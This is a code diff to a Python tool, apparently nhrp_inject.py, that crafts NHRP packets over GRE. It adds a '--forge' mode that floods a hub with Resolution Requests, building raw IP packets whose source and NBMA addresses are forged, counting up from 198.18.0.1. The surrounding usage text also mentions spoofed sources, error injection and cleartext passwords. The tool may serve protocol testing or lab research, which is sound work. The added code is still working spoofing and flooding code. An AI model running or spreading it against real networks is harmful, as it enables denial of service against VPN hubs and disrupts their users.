@@ -22,7 +22,8 @@ address given.
       A Resolution Request; prints "code N" of the Resolution Reply's CIE,
       or "no reply".
       With --flood N: N requests with random IDs, waiting for none;
-      prints "sent N".
+      prints "sent N".  With --flood N --forge: each from its own forged
+      outer source and NBMA address, 198.18.0.1 upwards.
   nhrp_inject.py error --to 192.0.2.11 --key 42 --src-nbma 192.0.2.14 \
       --src-proto 10.0.0.14 [--code 7] [--auth SECRET]
       An Error Indication about a Registration Request of the receiver's
@@ -275,6 +276,22 @@ def cmd_register(a):
 
 def cmd_resolve(a):
     s = open_sock()
+    if a.flood and a.forge:
+        # Each from a source of its own: strangers to the hub.
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW,
+                            socket.IPPROTO_RAW)
+        base = struct.unpack("!I", socket.inet_aton("198.18.0.1"))[0]
+        for i in range(a.flood):
+            nbma = socket.inet_ntoa(struct.pack("!I", base + i))
+            g = gre(resolution(nbma, a.src_proto, a.dst_proto,
+                               random.randrange(1, 1 << 31), a.auth,
+                               a.ext_len), a.key)
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(g), 0, 0,
+                             64, 47, 0, socket.inet_aton(nbma),
+                             socket.inet_aton(a.to))
+            raw.sendto(ip + g, (a.to, 0))
+        print("sent %d" % a.flood)
+        return 0
     if a.flood:
         # Resolution Requests with random IDs, no waiting: one member
         # asking all it can.
@@ -432,6 +449,8 @@ def main():
                     help="resolve: send this many requests, wait for none")
     ap.add_argument("--auth", help="Cisco cleartext NHRP password")
     ap.add_argument("--spoof", help="outer source address to send from")
+    ap.add_argument("--forge", action="store_true",
+                    help="resolve --flood: a forged source per request")
     ap.add_argument("--repeat-secs", type=float, default=0)
     ap.add_argument("--cie-nbma", help="answer positively, with this NBMA")
     ap.add_argument("--code", type=int, default=7,
